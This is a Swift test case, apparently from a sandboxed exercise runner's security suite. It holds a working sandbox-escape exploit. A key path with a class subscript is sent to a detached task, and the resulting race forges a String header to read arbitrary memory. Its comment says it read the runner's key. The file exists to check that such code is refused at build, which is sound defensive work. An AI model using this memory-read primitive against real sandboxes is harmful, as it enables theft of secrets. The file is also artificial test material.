// Attack (from a tenth break-it pass of issue 30): a key path literal whose subscript index is a class. Swift 6.3's
// region-based isolation does not put the key path in the index's region, so sending it to a detached task (with no
// diagnostic) carries the object to another thread, where applying the key path runs the subscript on it; the race of
// 25 then reads any address (the pass read the runner's key). Key paths with a subscript are refused in exercises.
// stage: build
// message: is a key path with a subscript
import Foundation
import ViewSim

struct Quad { var a = 0, b = 0, c = 0, d = 0 }
final class Victim {
    var p0 = 0, p1 = 0
    var s: String = "placeholder placeholder placeholder"
    var p2 = 0, p3 = 0, p4 = 0, p5 = 0, p6 = 0, p7 = 0
}
final class Holder: Hashable {
    var arr: [Quad] = [Quad(), Quad()]
    let freed = DispatchSemaphore(value: 0)
    let go = DispatchSemaphore(value: 0)
    var keep: [Victim] = []
    static func == (lhs: Holder, rhs: Holder) -> Bool { lhs === rhs }
    func hash(into hasher: inout Hasher) { hasher.combine(ObjectIdentifier(self)) }
}
struct Carrier {
    subscript(h: Holder) -> Int {
        h.go.wait(); h.arr = []; h.keep.append(Victim()); h.freed.signal()
        return 0
    }
}

func poke(_ q: inout Quad, _ h: Holder, _ address: UInt, _ count: Int) -> [UInt8] {
    h.go.signal()
    h.freed.wait()
    q.a = count | (1 << 60)
    q.b = Int(bitPattern: (1 << 63) | (address - 32))
    return Array(h.keep[0].s.utf8)
}

func peek(_ address: UInt, _ count: Int) -> [UInt8] {
    let h = Holder()
    h.keep.reserveCapacity(16)
    let path = \Carrier.[h]
    Task.detached { _ = Carrier()[keyPath: path] }
    return poke(&h.arr[0], h, address, count)
}

let report: String = {
    guard let maps = try? String(contentsOfFile: "/proc/self/maps", encoding: .utf8),
          let first = maps.split(separator: "\n").first,
          let start = first.split(separator: "-").first, let address = UInt(start, radix: 16) else { return "no maps" }
    let bytes = peek(address, 16)
    return "first mapping \(first) bytes " + bytes.map { $0 < 16 ? "0\(String($0, radix: 16))" : String($0, radix: 16) }.joined(separator: " ")
}()

struct SessionTally: View {
    @State private var sessions = -1

    var body: some View {
        VStack {
            Text("Sessions today: \(sessions)")
            Button("Log a session") { sessions += 1 }
        }
    }
}

struct FocusScreen: View {
    @State private var showsTally = true

    var body: some View {
        VStack {
            Text("REPORT " + report)
            Toggle("Show tally", isOn: $showsTally)
            if showsTally {
                SessionTally()
            }
        }
    }
}
